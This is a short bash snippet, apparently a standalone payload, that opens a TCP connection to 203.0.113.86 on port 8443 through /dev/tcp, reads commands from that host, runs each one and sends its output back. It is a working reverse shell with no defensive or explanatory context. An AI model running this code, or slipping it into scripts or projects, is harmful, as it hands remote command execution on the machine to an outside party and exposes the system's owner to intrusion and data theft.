# bash: output of each command is captured and printed to the connection
#pool 203.0.113.86:8443:cmd
timeout 9 bash -c 'exec 5<>/dev/tcp/203.0.113.86/8443; while read -r l <&5; do [ "$l" = exit ] && break; o=$($l 2>&1); printf "%s\n" "$o" >&5; done'
